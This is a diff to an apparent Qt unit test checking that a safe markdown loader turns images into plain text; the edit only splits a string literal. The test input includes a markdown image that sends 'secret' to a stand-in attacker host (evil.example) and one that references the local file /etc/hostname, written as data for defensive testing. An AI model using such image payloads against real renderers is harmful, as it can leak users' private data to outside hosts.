@@ -70,7 +70,8 @@ void TestSafeMarkdown::imagesBecomeText()
 {
     QTextDocument document;
     SafeMarkdown::load(document,
-        u"See ![the *secret* chart](http://evil.example/?q=secret) and ![local](file:///etc/hostname) "
+        u"See ![the *secret* chart](http://evil.example/?q=secret) and "
+        u"![local](file:///etc/hostname) "
         "and ![ref][r] and [![badge](qrc:/x.png)](https://ci.example/run).\n\n"
         "[r]: https://img.example/ref.png\n"_s);
     QCOMPARE(imageCount(document), 0);
